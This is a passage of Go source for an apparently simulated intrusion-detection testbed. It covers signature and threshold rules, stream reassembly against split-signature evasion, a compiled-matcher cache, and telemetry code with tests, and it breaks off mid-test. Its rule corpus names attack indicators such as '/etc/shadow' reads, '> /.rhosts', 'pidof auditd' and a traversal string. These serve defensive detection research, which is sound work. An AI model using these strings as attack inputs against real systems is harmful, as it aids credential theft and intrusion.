// seen (the long-replay memory leak). Drained threshold states are
// recycled instead of freed.
func (e *SignatureEngine) maybePrune(now time.Duration) {
	if now-e.lastPrune < e.SuppressWindow {
		return
	}
	e.lastPrune = now
	e.suppress.Sweep(func(_ suppressKey, last *time.Duration) bool {
		return now-*last < e.SuppressWindow
	})
	for i, r := range e.thresholds {
		e.thState[i].Sweep(func(_ uint64, stp **thresholdState) bool {
			st := *stp
			st.prune(now, r.Window)
			if len(st.hits) == 0 {
				e.thFree = append(e.thFree, st)
				return false
			}
			return true
		})
	}
}

// thresholdStateFor returns rule i's counter for key k, creating (or
// recycling) one on first sight.
func (e *SignatureEngine) thresholdStateFor(i int, k uint64, distinct bool) *thresholdState {
	stp, found := e.thState[i].Put(k)
	if !found {
		if n := len(e.thFree); n > 0 {
			*stp = e.thFree[n-1]
			e.thFree[n-1] = nil
			e.thFree = e.thFree[:n-1]
		} else {
			*stp = &thresholdState{}
		}
		if distinct && (*stp).ports == nil {
			(*stp).ports = make(map[uint16]int)
		}
	}
	return *stp
}

// Inspect implements Engine.
func (e *SignatureEngine) Inspect(p *packet.Packet, now time.Duration) []Alert {
	return e.inspect(p, now, nil, false)
}

// inspect is the shared inspection body: when prescanned is set, hits is
// the memoized sorted distinct match set for p's payload (from
// PrescanBatch) and the content scan is skipped; otherwise the payload
// (with reassembly, if enabled) is scanned inline. Everything stateful —
// fidelity filtering, suppression, thresholds — runs here, at the
// packet's own inspection time, so batching is invisible to alert
// content and ordering.
func (e *SignatureEngine) inspect(p *packet.Packet, now time.Duration, hits []int32, prescanned bool) []Alert {
	e.Inspected++
	e.maybePrune(now)
	var alerts []Alert
	minFidelity := 1 - e.sensitivity

	if len(p.Payload) > 0 {
		if !prescanned {
			data := p.Payload
			if e.reassembler != nil {
				data = e.reassembler.Extend(p)
			}
			hits = e.matcher.ScanSetInto(data, &e.scanBuf)
		}
		for _, idx := range hits {
			r := e.rules[idx]
			if r.Fidelity < minFidelity {
				continue
			}
			if e.suppressed(contentSuppressKey(int(idx), p), now) {
				continue
			}
			alerts = append(alerts, Alert{
				At: now, Technique: r.Technique, Severity: r.Severity,
				Attacker: p.Src, Victim: p.Dst, Flow: p.Key(),
				Reason: e.reasons[idx],
				Engine: e.Name(),
			})
		}
	}

	for i, r := range e.thresholds {
		if r.Match != nil && !r.Match(p) {
			continue
		}
		k := keyFor(r.Key, p)
		st := e.thresholdStateFor(i, k, r.DistinctPorts)
		st.prune(now, r.Window)
		count := st.add(now, p.DstPort, r.DistinctPorts)
		if count >= e.thresholdEffective(r.BaseCount) {
			if !e.suppressed(thresholdSuppressKey(i, k), now) {
				// Threshold reasons carry run-specific counts, so they
				// stay lazily formatted — but only on an unsuppressed
				// fire, never on the per-packet path.
				alerts = append(alerts, Alert{
					At: now, Technique: r.Technique, Severity: r.Severity,
					Attacker: p.Src, Victim: p.Dst, Flow: p.Key(),
					Reason: fmt.Sprintf("threshold %q: %d hits in %v", r.Name, count, r.Window),
					Engine: e.Name(),
				})
			}
			st.reset()
		}
	}
	return alerts
}

// PrescanBatch implements Prescanning: it scans the payload batch in one
// interleaved Aho–Corasick pass and memoizes the per-payload match sets
// for InspectPrescanned. Pure — no engine state is touched, so a batch
// may be scanned speculatively and partially discarded (e.g. when a
// sensor dies mid-queue). Returns false, scanning nothing, while stream
// reassembly is enabled: reassembly makes scan input depend on mutable
// flow tails, which only the in-order scalar path may advance.
func (e *SignatureEngine) PrescanBatch(payloads [][]byte) bool {
	if e.reassembler != nil {
		return false
	}
	e.matcher.ScanBatch(payloads, &e.batch)
	e.PrescanBatches++
	e.PrescanPackets += uint64(len(payloads))
	return true
}

// InspectPrescanned implements Prescanning: Inspect with the content
// scan replaced by entry idx of the last PrescanBatch. The caller must
// present packets in the same order and positions as the prescanned
// payload batch.
func (e *SignatureEngine) InspectPrescanned(p *packet.Packet, now time.Duration, idx int) []Alert {
	if e.reassembler != nil || idx < 0 || idx >= e.batch.Len() {
		return e.inspect(p, now, nil, false)
	}
	return e.inspect(p, now, e.batch.Hits(idx), true)
}

// StandardContentRules is the 2001-era signature corpus the simulated
// commercial products ship. High-fidelity entries match the attack
// library's exploit payloads; low-fidelity entries are the generic
// keyword rules that create false positives on benign traffic when
// sensitivity is raised.
func StandardContentRules() []ContentRule {
	return []ContentRule{
		// High fidelity: specific exploit indicators.
		{Name: "phf-cgi", Technique: "exploit", Pattern: []byte("cgi-bin/phf"), Severity: 0.9, Fidelity: 0.95},
		{Name: "unicode-traversal", Technique: "exploit", Pattern: []byte("..%c0%af"), Severity: 0.9, Fidelity: 0.95},
		{Name: "code-red-ida", Technique: "exploit", Pattern: []byte("default.ida?"), Severity: 0.9, Fidelity: 0.9},
		{Name: "nop-sled", Technique: "exploit", Pattern: bytes.Repeat([]byte{0x90}, 16), Severity: 1.0, Fidelity: 0.9},
		{Name: "ftp-site-exec", Technique: "exploit", Pattern: []byte("site exec %p"), Severity: 0.9, Fidelity: 0.9},
		{Name: "etc-passwd", Technique: "exploit", Pattern: []byte("/etc/passwd"), Severity: 0.8, Fidelity: 0.85},
		{Name: "etc-shadow", Technique: "insider-misuse", Pattern: []byte("/etc/shadow"), Severity: 0.8, Fidelity: 0.85},
		{Name: "rhosts-plus", Technique: "masquerade", Pattern: []byte("> /.rhosts"), Severity: 0.9, Fidelity: 0.9},
		{Name: "audit-kill", Technique: "masquerade", Pattern: []byte("pidof auditd"), Severity: 0.9, Fidelity: 0.9},
		// Medium fidelity.
		{Name: "su-root", Technique: "masquerade", Pattern: []byte("su root"), Severity: 0.6, Fidelity: 0.6},
		{Name: "login-incorrect", Technique: "bruteforce", Pattern: []byte("Login incorrect"), Severity: 0.5, Fidelity: 0.55},
		{Name: "setuid-shell", Technique: "masquerade", Pattern: []byte("chmod 4755"), Severity: 0.7, Fidelity: 0.7},
		// Low fidelity: generic keywords that also occur in benign traffic.
		{Name: "kw-login", Technique: "bruteforce", Pattern: []byte("login"), Severity: 0.2, Fidelity: 0.2},
		{Name: "kw-admin", Technique: "exploit", Pattern: []byte("admin"), Severity: 0.2, Fidelity: 0.15},
		{Name: "kw-cat", Technique: "insider-misuse", Pattern: []byte("cat "), Severity: 0.2, Fidelity: 0.12},
		{Name: "kw-root", Technique: "masquerade", Pattern: []byte("root"), Severity: 0.2, Fidelity: 0.18},
	}
}

// StandardThresholdRules returns the stateful rules for scan, flood, and
// brute-force detection.
func StandardThresholdRules() []ThresholdRule {
	return []ThresholdRule{
		{
			Name: "portscan-spread", Technique: "portscan", Key: KeyBySrc,
			Window: 2 * time.Second, BaseCount: 40, DistinctPorts: true, Severity: 0.7,
			Match: func(p *packet.Packet) bool {
				return p.Proto == packet.ProtoTCP && p.Flags == packet.SYN
			},
		},
		{
			Name: "syn-rate", Technique: "synflood", Key: KeyByPair,
			Window: time.Second, BaseCount: 400, Severity: 0.8,
			Match: func(p *packet.Packet) bool {
				return p.Proto == packet.ProtoTCP && p.Flags == packet.SYN
			},
		},
		{
			Name: "auth-failures", Technique: "bruteforce", Key: KeyByPair,
			Window: 10 * time.Second, BaseCount: 10, Severity: 0.7,
			Match: func(p *packet.Packet) bool {
				return len(p.Payload) > 0 && bytes.Contains(p.Payload, []byte("Login incorrect"))
			},
		},
	}
}

// NewStandardSignatureEngine builds the full stock corpus engine.
func NewStandardSignatureEngine() *SignatureEngine {
	return NewSignatureEngine(StandardContentRules(), StandardThresholdRules())
}

// DNSOversizeRule is the vendor's 2002 signature-update response to DNS
// tunneling: repeated oversized DNS queries from one conversation. It is
// a heuristic, not a content signature — rate-limited so occasional
// legitimate large lookups (TXT, zone metadata) do not fire it.
func DNSOversizeRule() ThresholdRule {
	return ThresholdRule{
		Name: "dns-oversize", Technique: "dns-tunnel", Key: KeyByPair,
		Window: 10 * time.Second, BaseCount: 15, Severity: 0.7,
		Match: func(p *packet.Packet) bool {
			return p.Proto == packet.ProtoUDP &&
				(p.DstPort == 53 || p.SrcPort == 53) &&
				len(p.Payload) > 90
		},
	}
}

// ICMPSweepRule detects ping sweeps: a burst of ICMP probes from one
// source (the sweep touches many hosts, so the per-source echo rate is
// the cheap tell).
func ICMPSweepRule() ThresholdRule {
	return ThresholdRule{
		Name: "icmp-sweep", Technique: "pingsweep", Key: KeyBySrc,
		Window: 5 * time.Second, BaseCount: 10, Severity: 0.5,
		Match: func(p *packet.Packet) bool { return p.Proto == packet.ProtoICMP },
	}
}

// UpdatedThresholdRules is the post-signature-update rule set: the stock
// rules plus the DNS-tunnel and ping-sweep heuristics. The paper's
// Section 4: "Continual re-evaluation is especially important since
// vendors rapidly update their products."
func UpdatedThresholdRules() []ThresholdRule {
	return append(StandardThresholdRules(), DNSOversizeRule(), ICMPSweepRule())
}

// NewUpdatedSignatureEngine builds the post-update engine with stream
// reassembly and the expanded rule set.
func NewUpdatedSignatureEngine() *SignatureEngine {
	e := NewSignatureEngine(StandardContentRules(), UpdatedThresholdRules())
	e.EnableReassembly()
	return e
}

// NewReassemblingSignatureEngine builds the stock engine with
// cross-segment stream reassembly enabled — the configuration that
// defeats signature-splitting evasion.
func NewReassemblingSignatureEngine() *SignatureEngine {
	e := NewStandardSignatureEngine()
	e.EnableReassembly()
	return e
}
