package detect

import (
	"bytes"
	"sync"
	"sync/atomic"

	"repro/internal/obs"
)

// The compiled-artifact cache. Building the Aho–Corasick automaton is
// the expensive part of signature-engine construction — O(total pattern
// bytes) trie + BFS plus a dense 256-way transition table — and the
// harness constructs engines constantly: one per sensor, per sweep
// point, per throughput probe, per product. Every one of those engines
// compiles the same few rule corpora, so the automaton is built once
// per distinct corpus and shared. A Matcher is immutable after
// construction (Scan/Contains/ScanSetInto only read the tables), which
// makes a cached instance safe to share across sensors and across the
// worker goroutines of a parallel evaluation.

// matcherCache maps corpus fingerprint -> *matcherCacheEntry. Entries
// are created with LoadOrStore and built under the entry's sync.Once,
// so concurrent constructors of the same corpus block on one build
// instead of racing duplicate ones.
var matcherCache sync.Map

type matcherCacheEntry struct {
	once     sync.Once
	matcher  *Matcher
	patterns [][]byte // retained to verify against fingerprint collisions
}

// Cache instrumentation: how many distinct automata were actually
// compiled versus how many constructions were served from cache, plus
// the resident footprint of the cached automata (matchers and their
// flattened state bytes — dense rows, sparse CSR edges, output lists,
// retained patterns). Collision builds are compiled uncached and are
// deliberately excluded from the resident gauges.
var (
	matcherCacheBuilds     atomic.Uint64
	matcherCacheHits       atomic.Uint64
	matcherCacheResident   atomic.Uint64
	matcherCacheStateBytes atomic.Uint64
)

// MatcherCacheStats reports how many automaton compilations the cache
// performed and how many engine constructions it satisfied without
// compiling. After evaluating a whole product field, builds stays at
// the number of distinct rule corpora — the acceptance evidence that
// the artifact is compiled once and shared.
func MatcherCacheStats() (builds, hits uint64) {
	return matcherCacheBuilds.Load(), matcherCacheHits.Load()
}

// MatcherCacheFootprint reports how many automata the cache holds
// resident and their combined state bytes, computed from each cached
// Matcher's actual flattened layout (Matcher.StateBytes) at build time —
// not an estimate from the old dense-table shape.
func MatcherCacheFootprint() (matchers, stateBytes uint64) {
	return matcherCacheResident.Load(), matcherCacheStateBytes.Load()
}

// PublishCacheMetrics copies the process-wide matcher-cache counters
// into reg as gauges under "detect.matcher_cache." (gauges, not
// counters, because the cache is process-global and a registry may be
// snapshotted more than once). The matchers/state_bytes gauges report
// the flattened hybrid layout's real resident footprint so obs
// scorecards stay truthful about detection-state memory. No-op on a nil
// registry.
func PublishCacheMetrics(reg *obs.Registry) {
	if reg == nil {
		return
	}
	builds, hits := MatcherCacheStats()
	matchers, stateBytes := MatcherCacheFootprint()
	reg.Gauge("detect.matcher_cache.builds").Set(int64(builds))
	reg.Gauge("detect.matcher_cache.hits").Set(int64(hits))
	reg.Gauge("detect.matcher_cache.matchers").Set(int64(matchers))
	reg.Gauge("detect.matcher_cache.state_bytes").Set(int64(stateBytes))
}

// corpusFingerprint hashes a pattern corpus with FNV-1a, framing each
// pattern by its length so concatenation ambiguities ("ab","c" vs
// "a","bc") produce distinct keys.
func corpusFingerprint(patterns [][]byte) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for _, pat := range patterns {
		n := len(pat)
		for i := 0; i < 8; i++ {
			h ^= uint64(byte(n >> (8 * i)))
			h *= prime64
		}
		for _, b := range pat {
			h ^= uint64(b)
			h *= prime64
		}
	}
	return h
}

// samePatterns reports whether two corpora are byte-identical.
func samePatterns(a, b [][]byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if !bytes.Equal(a[i], b[i]) {
			return false
		}
	}
	return true
}

// CachedMatcher returns the compiled automaton for the pattern corpus,
// building it at most once per distinct corpus for the life of the
// process. The caller must not mutate the pattern bytes afterwards.
// On the (astronomically unlikely) event of a fingerprint collision
// the colliding corpus is compiled uncached rather than served a wrong
// automaton.
func CachedMatcher(patterns [][]byte) *Matcher {
	fp := corpusFingerprint(patterns)
	v, _ := matcherCache.LoadOrStore(fp, &matcherCacheEntry{})
	e := v.(*matcherCacheEntry)
	built := false
	e.once.Do(func() {
		e.patterns = patterns
		e.matcher = NewMatcher(patterns)
		matcherCacheBuilds.Add(1)
		matcherCacheResident.Add(1)
		matcherCacheStateBytes.Add(uint64(e.matcher.StateBytes()))
		built = true
	})
	if !built {
		if !samePatterns(e.patterns, patterns) {
			matcherCacheBuilds.Add(1)
			return NewMatcher(patterns)
		}
		matcherCacheHits.Add(1)
	}
	return e.matcher
}
