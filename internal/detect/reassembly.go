package detect

import (
	"repro/internal/packet"
)

// streamTail retains the last few payload bytes of each flow so content
// patterns that straddle a segment boundary still match: the classic
// evasion (Ptacek–Newsham style fragmentation of a signature across
// packets) defeats per-packet scanning but not a scanner that prepends
// the flow's tail. Only tail bytes up to the longest pattern minus one
// are needed for correctness.
type streamTail struct {
	buf []byte
}

// Reassembler maintains per-flow tails for an engine's content scanner.
type Reassembler struct {
	// tailLen is the retained byte count per flow (longest pattern − 1).
	tailLen int
	flows   map[packet.FlowKey]*streamTail
	// MaxFlows bounds memory; oldest-insertion eviction is approximated
	// by clearing the table when the cap is hit (flows re-learn their
	// tails within one packet).
	MaxFlows int
}

// NewReassembler creates a reassembler retaining tailLen bytes per flow.
func NewReassembler(tailLen int) *Reassembler {
	if tailLen < 0 {
		tailLen = 0
	}
	return &Reassembler{
		tailLen:  tailLen,
		flows:    make(map[packet.FlowKey]*streamTail),
		MaxFlows: 65536,
	}
}

// Extend returns the packet's payload prefixed with the flow's retained
// tail, and updates the tail. The returned slice must be treated as
// read-only and is only valid until the next Extend for the same flow.
func (r *Reassembler) Extend(p *packet.Packet) []byte {
	if r.tailLen == 0 || p.Proto != packet.ProtoTCP || len(p.Payload) == 0 {
		return p.Payload
	}
	key := p.Key()
	st, ok := r.flows[key]
	if !ok {
		if len(r.flows) >= r.MaxFlows {
			r.flows = make(map[packet.FlowKey]*streamTail)
		}
		st = &streamTail{}
		r.flows[key] = st
	}
	joined := p.Payload
	if len(st.buf) > 0 {
		joined = make([]byte, 0, len(st.buf)+len(p.Payload))
		joined = append(joined, st.buf...)
		joined = append(joined, p.Payload...)
	}
	// Update the tail with the final bytes of the stream so far.
	if len(joined) >= r.tailLen {
		st.buf = append(st.buf[:0], joined[len(joined)-r.tailLen:]...)
	} else {
		st.buf = append(st.buf[:0], joined...)
	}
	// Close out finished flows to bound memory on well-behaved traffic.
	if p.Flags.Has(packet.FIN) || p.Flags.Has(packet.RST) {
		delete(r.flows, key)
	}
	return joined
}

// FlowCount reports tracked flows (for tests and capacity accounting).
func (r *Reassembler) FlowCount() int { return len(r.flows) }

// longestPattern returns the maximum pattern length in a rule set.
func longestPattern(rules []ContentRule) int {
	max := 0
	for _, r := range rules {
		if len(r.Pattern) > max {
			max = len(r.Pattern)
		}
	}
	return max
}
