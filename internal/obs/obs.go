// Package obs is the testbed's simulation-aware telemetry subsystem: a
// metrics registry of counters, gauges, and fixed-bucket histograms,
// plus lightweight span tracing for pipeline stages.
//
// Two properties shape the design:
//
//   - Telemetry observes, it never perturbs. No instrument touches a
//     random stream, schedules an event, or changes control flow, so a
//     simulation produces bit-identical results with instrumentation
//     wired in or absent (the determinism guard test pins this).
//
//   - The disabled path is free. Every instrument method is defined on
//     a possibly-nil receiver and returns immediately when nil, so
//     uninstrumented components pay one predictable branch — a few
//     nanoseconds and zero allocations, pinned by benchmark — instead
//     of a registry lookup or an interface call.
//
// Quantities carry an explicit clock: sim-time for anything the virtual
// clock produces (detection latency, queue wait) and wall-time for real
// costs of the harness itself (decode throughput, scan ns/op). The
// clock is declared when the instrument is registered and travels with
// every export so a dashboard can never confuse the two.
//
// Instruments are registered once at wiring time and the returned
// pointer is kept by the instrumented component; the hot path is then a
// single atomic operation with no map lookups and no locks. All
// instruments are safe for concurrent use — the parallel evaluation
// pipeline shares registries across par workers.
package obs

import (
	"fmt"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Clock declares which timeline a measured quantity lives on.
type Clock uint8

// Clock kinds.
const (
	// ClockWall marks real elapsed time of the harness (decode
	// throughput, scan ns/op, stage timings).
	ClockWall Clock = iota
	// ClockSim marks virtual simulation time (detection latency, queue
	// wait, induced path latency).
	ClockSim
	// ClockNone marks dimensionless quantities (counts, bytes, depths).
	ClockNone
)

// String names the clock for exports.
func (c Clock) String() string {
	switch c {
	case ClockSim:
		return "sim"
	case ClockWall:
		return "wall"
	default:
		return "none"
	}
}

// Counter is a monotonically increasing uint64. A nil *Counter is a
// valid no-op instrument.
type Counter struct {
	v    atomic.Uint64
	name string
}

// Inc adds one.
func (c *Counter) Inc() {
	if c == nil {
		return
	}
	c.v.Add(1)
}

// Add adds n.
func (c *Counter) Add(n uint64) {
	if c == nil {
		return
	}
	c.v.Add(n)
}

// Value returns the current count (0 for nil).
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Name returns the registered name ("" for nil).
func (c *Counter) Name() string {
	if c == nil {
		return ""
	}
	return c.name
}

// Gauge is an instantaneous signed value (queue depth, buffered bytes).
// A nil *Gauge is a valid no-op instrument.
type Gauge struct {
	v    atomic.Int64
	hi   atomic.Int64 // high-water mark
	name string
}

// Set stores v and updates the high-water mark.
func (g *Gauge) Set(v int64) {
	if g == nil {
		return
	}
	g.v.Store(v)
	atomicMax(&g.hi, v)
}

// Update adds d to the gauge and updates the high-water mark.
func (g *Gauge) Update(d int64) {
	if g == nil {
		return
	}
	atomicMax(&g.hi, g.v.Add(d))
}

// Value returns the current value (0 for nil).
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// High returns the high-water mark (0 for nil).
func (g *Gauge) High() int64 {
	if g == nil {
		return 0
	}
	return g.hi.Load()
}

// atomicMax raises *a to v if v is larger.
func atomicMax(a *atomic.Int64, v int64) {
	for {
		cur := a.Load()
		if v <= cur || a.CompareAndSwap(cur, v) {
			return
		}
	}
}

// atomicMin lowers *a to v if v is smaller.
func atomicMin(a *atomic.Int64, v int64) {
	for {
		cur := a.Load()
		if v >= cur || a.CompareAndSwap(cur, v) {
			return
		}
	}
}

// Registry holds a set of named instruments and a span log. A nil
// *Registry is the disabled telemetry configuration: every lookup
// returns a nil instrument and every span is a no-op.
//
// Names are dot-separated paths (see DESIGN.md §9 for the scheme);
// duration-valued histograms record nanoseconds and end in "_ns".
// Registering the same name twice returns the same instrument, so
// wiring helpers are idempotent.
type Registry struct {
	mu        sync.Mutex
	counters  map[string]*Counter
	gauges    map[string]*Gauge
	hists     map[string]*Histogram
	spans     []SpanRecord
	spanEpoch time.Time
	flight    *FlightRecorder
}

// NewRegistry creates an empty enabled registry.
func NewRegistry() *Registry {
	return &Registry{
		counters: make(map[string]*Counter),
		gauges:   make(map[string]*Gauge),
		hists:    make(map[string]*Histogram),
	}
}

// Counter returns the named counter, creating it on first use. Returns
// nil (the no-op instrument) on a nil registry.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{name: name}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the named gauge, creating it on first use. Returns nil
// on a nil registry.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{name: name}
		r.gauges[name] = g
	}
	return g
}

// Histogram returns the named histogram with the default duration
// ladder, creating it on first use. Returns nil on a nil registry.
func (r *Registry) Histogram(name string, clock Clock) *Histogram {
	return r.HistogramWithBounds(name, clock, nil)
}

// HistogramWithBounds is Histogram with explicit bucket upper bounds
// (nil means the default duration ladder). Bounds must be ascending.
// The bounds of an already-registered name win; the argument is ignored.
func (r *Registry) HistogramWithBounds(name string, clock Clock, bounds []int64) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.hists[name]
	if !ok {
		h = NewHistogram(name, clock, bounds)
		r.hists[name] = h
	}
	return h
}

// EnableFlight attaches a flight recorder holding the last cap events
// (cap <= 0 selects DefaultFlightCapacity) and returns it. Idempotent:
// a recorder already attached is returned unchanged, so wiring helpers
// can call it freely. Returns nil on a nil registry — the disabled
// configuration stays fully disabled.
func (r *Registry) EnableFlight(cap int) *FlightRecorder {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.flight == nil {
		r.flight = NewFlightRecorder(cap)
	}
	return r.flight
}

// SetFlight attaches an existing recorder — the sharing path when
// several short-lived registries (one per product run) feed one
// process-wide timeline. A nil f detaches. No-op on a nil registry.
func (r *Registry) SetFlight(f *FlightRecorder) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.flight = f
}

// Flight returns the attached flight recorder, or nil when none was
// enabled (and on a nil registry). The nil result is itself a valid
// no-op recorder, so callers thread it without checks.
func (r *Registry) Flight() *FlightRecorder {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.flight
}

// sortedKeys returns map keys in sorted order, so snapshots and exports
// are deterministic regardless of registration order.
func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// String summarizes the registry for diagnostics.
func (r *Registry) String() string {
	if r == nil {
		return "obs.Registry(disabled)"
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return fmt.Sprintf("obs.Registry(%d counters, %d gauges, %d histograms, %d spans)",
		len(r.counters), len(r.gauges), len(r.hists), len(r.spans))
}
