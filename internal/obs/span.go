package obs

import (
	"time"
)

// SpanRecord is one finished pipeline-stage span. Wall-clock spans
// record Start as an offset from the registry's first span (so a log of
// spans reads as a relative timeline without embedding absolute
// timestamps); sim-clock spans record virtual time directly.
type SpanRecord struct {
	Name  string        `json:"name"`
	Clock Clock         `json:"clock"`
	Start time.Duration `json:"start_ns"`
	Dur   time.Duration `json:"dur_ns"`
}

// Span is an in-progress wall-clock stage measurement. It is a value
// type: starting and ending a span allocates nothing beyond the
// registry's finished-record append. The zero Span (from a nil
// registry) is a valid no-op.
type Span struct {
	reg   *Registry
	name  string
	start time.Time
}

// StartSpan begins a wall-clock span. On a nil registry it returns the
// zero Span without touching the clock, so uninstrumented stage
// boundaries cost two nil checks and nothing else.
func (r *Registry) StartSpan(name string) Span {
	if r == nil {
		return Span{}
	}
	return Span{reg: r, name: name, start: time.Now()}
}

// End finishes the span, records it, and returns its duration (zero
// for the no-op span of a nil registry).
func (s Span) End() time.Duration {
	if s.reg == nil {
		return 0
	}
	d := time.Since(s.start)
	s.reg.recordSpan(s.name, ClockWall, s.start, d)
	return d
}

// recordSpan appends a finished wall span, rebasing its start onto the
// registry's span epoch (the start of the earliest recorded span).
func (r *Registry) recordSpan(name string, clock Clock, start time.Time, d time.Duration) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.spanEpoch.IsZero() || start.Before(r.spanEpoch) {
		r.spanEpoch = start
	}
	r.spans = append(r.spans, SpanRecord{
		Name: name, Clock: clock, Start: start.Sub(r.spanEpoch), Dur: d,
	})
}

// RecordSimSpan records a span measured on the simulation clock (for
// quantities like a replay window or a training phase, where the span's
// extent is virtual time). No-op on a nil registry.
func (r *Registry) RecordSimSpan(name string, start, dur time.Duration) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.spans = append(r.spans, SpanRecord{Name: name, Clock: ClockSim, Start: start, Dur: dur})
}

// Spans returns a copy of the finished spans in record order. Nil
// registries have none.
func (r *Registry) Spans() []SpanRecord {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]SpanRecord, len(r.spans))
	copy(out, r.spans)
	return out
}

// SpanDur returns the summed duration of all finished spans with the
// given name, and whether any were recorded.
func (r *Registry) SpanDur(name string) (time.Duration, bool) {
	if r == nil {
		return 0, false
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	var total time.Duration
	found := false
	for _, s := range r.spans {
		if s.Name == name {
			total += s.Dur
			found = true
		}
	}
	return total, found
}
