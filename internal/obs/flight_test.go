package obs

import (
	"bytes"
	"encoding/json"
	"sync"
	"testing"
	"time"
)

func TestFlightNilIsNoOp(t *testing.T) {
	var f *FlightRecorder
	f.Record(FlightMark, -1, -1, 0, "x")
	f.RecordSpan(FlightWindow, 0, time.Now(), time.Millisecond, 0, 0, "")
	if f.Len() != 0 || f.Recorded() != 0 || f.Dropped() != 0 || f.Events() != nil {
		t.Fatal("nil recorder recorded something")
	}
	var buf bytes.Buffer
	if err := f.WriteChromeTrace(&buf); err != nil {
		t.Fatal(err)
	}
	var out map[string]any
	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
		t.Fatalf("nil trace not valid JSON: %v", err)
	}
}

func TestFlightDisabledAllocFree(t *testing.T) {
	var f *FlightRecorder
	if n := testing.AllocsPerRun(1000, func() {
		f.Record(FlightWindow, 3, 100, 7, "w")
	}); n != 0 {
		t.Fatalf("disabled flight Record allocates %.1f per op", n)
	}
	var reg *Registry
	if reg.Flight() != nil || reg.EnableFlight(8) != nil {
		t.Fatal("nil registry produced a recorder")
	}
}

func TestFlightRingWrap(t *testing.T) {
	f := NewFlightRecorder(4)
	for i := int64(0); i < 10; i++ {
		f.Record(FlightMark, -1, -1, i, "m")
	}
	if got := f.Len(); got != 4 {
		t.Fatalf("Len = %d, want 4", got)
	}
	if got := f.Recorded(); got != 10 {
		t.Fatalf("Recorded = %d, want 10", got)
	}
	if got := f.Dropped(); got != 6 {
		t.Fatalf("Dropped = %d, want 6", got)
	}
	evs := f.Events()
	if len(evs) != 4 {
		t.Fatalf("Events len = %d", len(evs))
	}
	for i, e := range evs {
		wantSeq := uint64(6 + i)
		if e.Seq != wantSeq || e.Arg != int64(wantSeq) {
			t.Fatalf("event %d: seq=%d arg=%d, want oldest-first tail starting at 6", i, e.Seq, e.Arg)
		}
	}
}

func TestFlightRecordNoAllocWhenEnabled(t *testing.T) {
	f := NewFlightRecorder(64)
	if n := testing.AllocsPerRun(1000, func() {
		f.Record(FlightWindow, 1, 42, 3, "w")
	}); n != 0 {
		t.Fatalf("enabled flight Record allocates %.1f per op", n)
	}
}

func TestFlightConcurrentRecord(t *testing.T) {
	f := NewFlightRecorder(128)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				f.Record(FlightWindow, int32(w), int64(i), 0, "w")
			}
		}(w)
	}
	wg.Wait()
	if got := f.Recorded(); got != 800 {
		t.Fatalf("Recorded = %d, want 800", got)
	}
	// Seqs of retained events must be the contiguous tail.
	evs := f.Events()
	for i := 1; i < len(evs); i++ {
		if evs[i].Seq != evs[i-1].Seq+1 {
			t.Fatalf("retained seqs not contiguous: %d then %d", evs[i-1].Seq, evs[i].Seq)
		}
	}
}

func TestFlightChromeTrace(t *testing.T) {
	f := NewFlightRecorder(64)
	start := time.Now()
	f.RecordSpan(FlightWindow, 0, start, 2*time.Millisecond, 1_000_000, 37, "")
	f.RecordSpan(FlightBarrierWait, 1, start, time.Millisecond, -1, 0, "")
	f.Record(FlightFaultInject, -1, 5_000_000, 0, "link_down:seg0")
	f.Record(FlightExperimentStart, -1, -1, 1, "eval/TrueSecure")

	var buf bytes.Buffer
	if err := f.WriteChromeTrace(&buf); err != nil {
		t.Fatal(err)
	}
	var out struct {
		TraceEvents []struct {
			Name string         `json:"name"`
			Ph   string         `json:"ph"`
			Tid  int            `json:"tid"`
			Dur  float64        `json:"dur"`
			Args map[string]any `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
		t.Fatalf("trace not valid JSON: %v\n%s", err, buf.String())
	}
	// 3 thread_name metadata records (tids 0,1,2) + 4 events.
	meta, complete, instant := 0, 0, 0
	threadNames := map[int]string{}
	for _, e := range out.TraceEvents {
		switch e.Ph {
		case "M":
			meta++
			threadNames[e.Tid] = e.Args["name"].(string)
		case "X":
			complete++
			if e.Dur <= 0 {
				t.Errorf("complete event %q has no duration", e.Name)
			}
		case "i":
			instant++
		default:
			t.Errorf("unexpected phase %q", e.Ph)
		}
	}
	if meta != 3 || complete != 2 || instant != 2 {
		t.Fatalf("meta/complete/instant = %d/%d/%d, want 3/2/2\n%s", meta, complete, instant, buf.String())
	}
	if threadNames[0] != "harness" || threadNames[1] != "domain 0" || threadNames[2] != "domain 1" {
		t.Fatalf("thread names: %v", threadNames)
	}
	// The window event carries its sim time and event count in args.
	found := false
	for _, e := range out.TraceEvents {
		if e.Ph == "X" && e.Name == "window" {
			found = true
